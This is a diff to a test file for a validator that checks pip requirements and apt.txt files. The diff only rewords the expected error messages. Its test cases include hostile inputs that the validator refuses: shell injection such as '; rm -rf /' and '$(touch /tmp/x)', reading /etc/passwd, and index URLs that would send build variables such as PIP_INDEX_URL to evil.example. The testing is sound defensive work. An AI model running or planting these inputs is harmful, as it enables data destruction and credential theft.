@@ -106,38 +106,44 @@ test('an included file is named to pip as it lies, also where its name is writte
 test('what another file comes to is refused by the name of that file', async () => {
   const listed = { path: 'x.requirements.txt', content: Buffer.from('six\nb!ad\n'), from: 'pyproject.toml' };
   await expect(readRequirements(listed, async () => undefined)).rejects.toThrow(
-    'pyproject.toml: "b!ad" is no requirement',
+    'pyproject.toml: "b!ad" is not a requirement',
   );
 });
 
 test.each([
-  ['--evil', '--evil is no option'],
-  ['--install-option=x', '--install-option is no option'],
-  ['; rm -rf /', 'is no requirement'],
-  ['$(touch /tmp/x)', 'is no requirement'],
-  ['`id`', 'is no requirement'],
-  ['six && id', 'is no requirement'],
+  ['--evil', '--evil is not an option'],
+  ['--install-option=x', '--install-option is not an option'],
+  ['; rm -rf /', 'is not a requirement'],
+  ['$(touch /tmp/x)', 'is not a requirement'],
+  ['`id`', 'is not a requirement'],
+  ['six && id', 'is not a requirement'],
   ['-r https://example.org/r.txt', 'is not included'],
   ['-r /etc/passwd', 'lies outside the project'],
   ['-r ../secret.txt', 'there is no ../secret.txt in the project'],
   ['-r missing.txt', 'there is no missing.txt in the project'],
   ['-r --evil', 'there is no --evil in the project'],
   // pip and uv would put in what the build's variables hold, passwords included.
-  [`--index-url http://evil.example/${variable('PIP_INDEX_URL')}/`, `${variable('PIP_INDEX_URL')}: no variable`],
-  [`x @ https://evil.example/${variable('https_proxy')}`, `${variable('https_proxy')}: no variable`],
-  [`--index-url http://evil.example/${variable('PIP_\\\nINDEX_URL')}/`, 'no variable'],
-  [`-r ${variable('HOME')}.txt`, 'no variable'],
-  ['six\u2028--index-url http://evil.example', 'is no requirement'],
-  ['--pre \\\\', 'is no requirement'],
+  [
+    `--index-url http://evil.example/${variable('PIP_INDEX_URL')}/`,
+    `${variable('PIP_INDEX_URL')}: a build does not get your variables`,
+  ],
+  [
+    `x @ https://evil.example/${variable('https_proxy')}`,
+    `${variable('https_proxy')}: a build does not get your variables`,
+  ],
+  [`--index-url http://evil.example/${variable('PIP_\\\nINDEX_URL')}/`, 'a build does not get your variables'],
+  [`-r ${variable('HOME')}.txt`, 'a build does not get your variables'],
+  ['six\u2028--index-url http://evil.example', 'is not a requirement'],
+  ['--pre \\\\', 'is not a requirement'],
   ['numpy @ file:///home/conda/feedstock_root/build_artifacts/numpy_1/work', 'numpy comes from a conda build'],
   ['certifi @ file:///croot/certifi_1671487769961/work/certifi', 'pip list --format=freeze'],
-  ['numpy=1.26.4=py311h64a7726_0', 'pip compares by `==`'],
-  ['b!ad', 'is no requirement'],
-  ['numpy==', 'is no requirement'],
-  [`'numpy>=1'`, 'is no requirement'],
-  ['numpy;', 'is no requirement'],
-  ['numpy>=1 <2', 'is no requirement'],
-  ['--find-links ./wheels', 'with a URL only'],
+  ['numpy=1.26.4=py311h64a7726_0', 'pip needs `==`'],
+  ['b!ad', 'is not a requirement'],
+  ['numpy==', 'is not a requirement'],
+  [`'numpy>=1'`, 'is not a requirement'],
+  ['numpy;', 'is not a requirement'],
+  ['numpy>=1 <2', 'is not a requirement'],
+  ['--find-links ./wheels', 'needs a URL'],
 ])('%s is refused with its line', async (line, why) => {
   const failure = requirements({ 'requirements.txt': `six\n\n${line}\n` });
   await expect(failure).rejects.toMatchObject({
@@ -172,5 +178,7 @@ test.each([
   'libc6:i386-',
   '/x.deb',
 ])('apt.txt: %s is refused with its line', (line) => {
-  expect(() => readAptPackages(file('apt.txt', `jq\n${line}\n`))).toThrow(/^apt\.txt, line 2: ".+" is no name/);
+  expect(() => readAptPackages(file('apt.txt', `jq\n${line}\n`))).toThrow(
+    /^apt\.txt, line 2: ".+" is not the name of a Debian package/,
+  );
 });
